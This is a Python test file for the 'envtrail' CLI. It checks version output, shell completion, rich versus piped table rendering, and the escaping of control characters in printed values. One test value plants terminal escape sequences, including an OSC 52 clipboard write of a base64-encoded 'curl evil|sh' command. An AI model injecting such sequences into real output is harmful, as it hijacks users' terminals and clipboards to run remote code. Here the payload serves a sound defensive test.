"""Terminal behaviour: --version, completion, rich tables on a terminal, NO_COLOR."""

import json
import os
import re
import subprocess
import sys

from conftest import Cli, in_terminal


def test_version(tmp_path):
    from envtrail import __version__

    r = Cli(tmp_path)("--version")
    assert (r.code, r.out.strip()) == (0, f"envtrail {__version__}")


def test_shell_completion_offers_commands(tmp_path):
    env = {**os.environ, "_ENVTRAIL_COMPLETE": "complete_bash", "COMP_WORDS": "envtrail ve",
           "COMP_CWORD": "1"}
    r = subprocess.run([sys.executable, "-m", "envtrail"], env=env, capture_output=True,
                       text=True, check=False)
    assert r.returncode == 0
    assert r.stdout.split() == ["verify"]


def run_in_terminal(cwd, args, env):
    """Run envtrail with a pseudo-terminal as stdout; return what it drew."""
    return in_terminal(cwd, args, env, columns=200)


def test_tables_are_rich_on_a_terminal_and_plain_when_piped(cli, store):
    assert cli("set", "A", "--env", "production", "--reason", "why not", input="v").code == 0
    env = {**cli._env(None), "COLUMNS": "200", "TERM": "xterm-256color"}
    env.pop("NO_COLOR", None)
    code, drawn = run_in_terminal(store, ["blame", "--env", "production"], env)
    assert code == 0
    assert "━" in drawn or "─" in drawn  # a rich table
    assert "why not" in drawn
    assert re.search(r"\x1b\[[0-9;]*m", drawn)  # styled
    code, plain_color = run_in_terminal(store, ["blame", "--env", "production"],
                                        {**env, "NO_COLOR": "1"})
    assert code == 0
    assert not re.search(r"\x1b\[(?:3[0-7]|38;)[0-9;]*m", plain_color)  # no colours
    piped = cli("blame", "--env", "production")
    assert "\t" in piped.out and "━" not in piped.out


# An OSC 52 clipboard write, a window title and a cursor-up plus erase-line: what a
# member could plant in a value for whoever prints it on a terminal (attack26 T1).
HOSTILE = "postgres://ok\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;owned\x07\x1b[1A\x1b[2K"


def test_a_value_cannot_drive_the_terminal_it_is_printed_on(cli, store):
    assert cli("set", "DB", "--env", "production", "--reason", "r", input=HOSTILE).code == 0
    env = {**cli._env(None), "NO_COLOR": "1"}
    for args in (["get", "DB", "--env", "production"],
                 ["export", "--env", "production", "--format", "shell"],
                 ["export", "--env", "production"]):
        code, drawn = in_terminal(store, args, env)
        assert code == 0, drawn
        assert "\x1b" not in drawn and "\x07" not in drawn, (args, drawn)
        assert "postgres://ok\\x1b]52;c;" in drawn
        assert "control characters escaped for this terminal" in drawn
    # Piped, the value is exact: what a script or `$(envtrail get ...)` gets.
    assert cli("get", "DB", "--env", "production").out == HOSTILE
    assert json.loads(cli("export", "--env", "production", "--format", "json").out) == \
        {"DB": HOSTILE}
